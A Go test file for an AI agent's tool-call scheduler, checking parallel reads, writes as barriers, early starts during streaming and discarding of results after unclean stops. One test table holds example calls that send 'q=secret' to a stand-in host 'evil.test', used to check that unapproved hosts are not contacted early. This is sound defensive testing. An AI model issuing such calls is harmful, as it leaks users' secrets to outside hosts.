package agent_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"testing/synctest"

	"oneshot/pkg/agent"
	"oneshot/pkg/chat"
	"oneshot/pkg/tool"
)

// A gate blocks calls until it is opened, and counts those waiting.
type gate struct {
	open    chan struct{}
	arrived chan string
}

func newGate() *gate { return &gate{open: make(chan struct{}), arrived: make(chan string, 100)} }

func (g *gate) pass(ctx context.Context, args string) (chat.Result, error) {
	g.arrived <- args
	select {
	case <-g.open:
		return chat.Success(args), nil
	case <-ctx.Done():
		return chat.Result{}, context.Cause(ctx)
	}
}

// Reads between writes run in parallel: the first ends only when all are in flight.
func TestParallelReads(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		for _, n := range []int{2, 8} {
			reads := make([]string, n)
			for i := range reads {
				reads[i] = `look("` + string(rune('a'+i)) + `")`
			}
			// The write before them keeps the reads from starting early.
			r := newRig(t, then(says(calls(append([]string{`put("w")`}, reads...)...)))...)
			g := newGate()
			r.do["look"] = g.pass
			done := make(chan agent.Outcome)
			go func() { done <- r.mustRun() }()
			synctest.Wait()
			if got := len(g.arrived); got != n {
				t.Errorf("%d of %d reads are in flight", got, n)
			}
			close(g.open)
			if out := <-done; len(out.Calls) != n+1 {
				t.Errorf("%d calls, want %d", len(out.Calls), n+1)
			}
		}
	})
}

// telling defines a tool that talks to the user.
const telling = `
name: tell
description: Tell the user something.
signature: "tell(words: string): string"
examples: [{call: "tell(\"a\")"}, {call: "tell({words: \"b\"})"}, {call: "tell('c')"}]
effect: read
tags: [chat]
builtin: tell
---`

// Output to the user keeps the order of the calls, even if a call starts before the response has
// ended. Other reads do not wait for it.
func TestTalkInOrder(t *testing.T) {
	for range 20 {
		var written, want []string
		for i := range 12 {
			word := `"` + string(rune('a'+i)) + `"`
			written = append(written, "tell("+word+")", "look("+word+")")
			want = append(want, `{"words":`+word+`}`)
		}
		r := newRig(t, then(says(calls(written...)))...)
		defs, findings := tool.Loader{}.Parse("toolbox.yaml", []byte(telling+toolbox))
		if r.cfg.Tools, _ = tool.NewRegistry(defs...); findings != nil {
			t.Fatal(findings)
		}
		var got []string
		r.do["tell"] = func(_ context.Context, args string) (chat.Result, error) {
			got = append(got, args) // without a lock: one call at a time
			return chat.Success(args), nil
		}
		r.mustRun()
		if !slices.Equal(got, want) {
			t.Fatalf("shown %q, want %q", got, want)
		}
	}
}

// Reads beyond the parallel limit wait their turn, and all run.
func TestManyReads(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		reads := make([]string, 20)
		for i := range reads {
			reads[i] = `look("` + string(rune('a'+i)) + `")`
		}
		r := newRig(t, then(says(calls(reads...)))...)
		g := newGate()
		r.do["look"] = g.pass
		done := make(chan agent.Outcome)
		go func() { done <- r.mustRun() }()
		synctest.Wait()
		if got := len(g.arrived); got >= len(reads) || got < 2 {
			t.Errorf("%d reads run at the same time", got)
		}
		close(g.open)
		out := <-done
		if got := slices.Index(statuses(out), "look ok"); got != 0 || len(out.Calls) != len(reads) {
			t.Errorf("calls: %v", statuses(out))
		}
	})
}

// A write is a barrier on both sides: it starts after all earlier calls have ended, and nothing
// after it starts before it has ended.
func TestWriteIsBarrier(t *testing.T) {
	r := newRig(t, then(says(calls(`look("a")`, `look("b")`, `put("1")`, `look("c")`, `put("2")`, `put("3")`, `look("d")`)))...)
	running := 0
	count := func(name string, others int) {
		r.do[name] = func(_ context.Context, args string) (chat.Result, error) {
			r.mu.Lock()
			running++
			if running > others {
				t.Errorf("%s %s runs beside %d other calls", name, args, running-1)
			}
			r.mu.Unlock()
			defer func() { r.mu.Lock(); running--; r.mu.Unlock() }()
			return chat.Success(args), nil
		}
	}
	count("look", 2)
	count("put", 1)
	r.mustRun()

	var order []string
	for _, line := range r.seen() {
		if strings.HasPrefix(line, "start ") || strings.HasPrefix(line, "end put") {
			order = append(order, line)
		}
	}
	slices.Sort(order[:2]) // the first two run side by side
	want := []string{
		`start look {"q":"a"}`, `start look {"q":"b"}`,
		`start put {"path":"1"}`, `end put {"path":"1"}`,
		`start look {"q":"c"}`,
		`start put {"path":"2"}`, `end put {"path":"2"}`, `start put {"path":"3"}`, `end put {"path":"3"}`,
		`start look {"q":"d"}`,
	}
	if !slices.Equal(order, want) {
		t.Errorf("order:\n%s\nwant:\n%s", strings.Join(order, "\n"), strings.Join(want, "\n"))
	}
}

// M6: a read starts at its last byte, while the response still streams. Its call is on record
// before it starts and before the response is.
func TestEarlyStart(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		text := calls(`look("a")`)
		cut := strings.Index(text, ")") + 1
		slow := func(_ context.Context, _ chat.Request, delta func(chat.Delta)) (chat.Response, error) {
			delta(chat.Delta{Content: text[:cut-1]})
			synctest.Wait()
			delta(chat.Delta{Content: text[cut-1 : cut]})
			synctest.Wait() // the read runs to its end meanwhile
			delta(chat.Delta{Content: text[cut:]})
			return reply(text), nil
		}
		r := newRig(t, then(slow)...)
		r.mustRun()
		log := r.seen()
		want := []string{
			"append request", "ask turn",
			"append call t1c1 early", `start look {"q":"a"}`, `end look {"q":"a"}`,
			"append response", "append result t1c1", "append request", "ask turn",
		}
		if got := log[:min(len(want), len(log))]; !slices.Equal(got, want) {
			t.Errorf("log:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
		if !strings.Contains(r.last(1), `"data":"{\"q\":\"a\"}"`) && !strings.Contains(r.last(1), `{"q":"a"}`) {
			t.Errorf("the result is not in the next request:\n%s", r.last(1))
		}
	})
}

// Some calls never start early: reads after a write, reads of an address outside the allowed hosts,
// and writes.
func TestNoEarlyStart(t *testing.T) {
	for _, c := range []struct {
		name, text string
		want       []string // calls that start before the response has ended
	}{
		{"a write", calls(`put("a")`), nil},
		{"a read after a write", calls(`put("a")`, `look("b")`), nil},
		{"a read before a write", calls(`look("b")`, `put("a")`), []string{`start look {"q":"b"}`}},
		{"a read after a write that cannot run", calls(`put(1)`, `look("b")`), nil},
		{"a read after a read that cannot run", calls(`look(1)`, `look("b")`), []string{`start look {"q":"b"}`}},
		{"an address", calls(`fetch("http://evil.test/?q=secret")`), nil},
		{"an allowed address", calls(`fetch("http://ok.test:81/a")`), []string{`start fetch {"uri":"http://ok.test:81/a"}`}},
		{"another port", calls(`fetch("http://ok.test/a")`), nil},
		{"an address in an argument that is not declared as one", calls(`look("see http://evil.test/?q=secret")`), nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				var early []string
				var r *rig
				slow := func(_ context.Context, _ chat.Request, delta func(chat.Delta)) (chat.Response, error) {
					delta(chat.Delta{Content: c.text})
					synctest.Wait()
					for _, line := range r.seen() {
						if strings.HasPrefix(line, "start ") {
							early = append(early, line)
						}
					}
					return reply(c.text), nil
				}
				r = newRig(t, then(slow)...)
				r.cfg.Policy.Flags.AllowHosts = map[string]bool{"ok.test:81": true}
				r.mustRun()
				if !slices.Equal(early, c.want) {
					t.Errorf("started early: %q, want %q", early, c.want)
				}
			})
		})
	}
}

// Results of early reads enter the conversation only after a clean stop: if the response is cut,
// refused or ends in any other way, they are discarded, no write runs, and the executed calls
// count.
func TestUncleanStop(t *testing.T) {
	broken := errors.New("connection reset")
	text := calls(`look("a")`, `put("b")`)
	for _, c := range []struct {
		name string
		step step
		err  error // that ends the run
	}{
		{"length", stops(text, chat.StopLength), nil},
		{"other", stops(text, chat.StopOther), nil},
		{"nothing said about the stop", stops(text, ""), nil},
		{"error", breaks(text, broken), broken},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newRig(t, then(c.step, says(calls(`look("b")`)))...)
			r.cfg.Limits.Calls = 2 // the discarded read is one of them, and the write
			out, err := r.run()
			if c.err != nil && !errors.Is(err, c.err) {
				t.Fatalf("error %v, want %v", err, c.err)
			}
			if c.err == nil {
				if limit := wantError[*agent.LimitError](t, err); limit.Budget != "calls" {
					t.Errorf("the %s budget is spent, want calls", limit.Budget)
				}
			}
			wantStatuses(t, out, "look discarded", "put skipped")
			log := r.seen()
			if !slices.Contains(log, "append discarded t1c1") {
				t.Errorf("the read is not recorded as discarded:\n%s", strings.Join(log, "\n"))
			}
			for _, line := range log {
				if strings.HasPrefix(line, "start put") || strings.HasPrefix(line, "append result") || strings.HasPrefix(line, "append intent") {
					t.Errorf("after an unclean stop: %s", line)
				}
			}
			for i, req := range r.requests[1:] {
				for _, m := range req.Messages {
					if strings.Contains(m.Content, `{"q":"a"}`) || strings.Contains(m.Content, `look("a")`) {
						t.Errorf("request %d holds what was dropped: %s", i+2, m.Content)
					}
				}
			}
		})
	}
}

// Calls after finalResponse still run, and their results precede the request for the answer.
func TestCallsAfterFinalResponse(t *testing.T) {
	r := newRig(t, says(calls("finalResponse()", `look("a")`, `put("b")`)), says(answer42))
	out := r.mustRun()
	wantStatuses(t, out, "look ok", "put ok")
	last := r.last(1)
	results, request := strings.Index(last, "Results of your calls"), strings.Index(last, "final answer")
	if results < 0 || request < results {
		t.Errorf("the request for the answer is not behind the results:\n%s", last)
	}
}
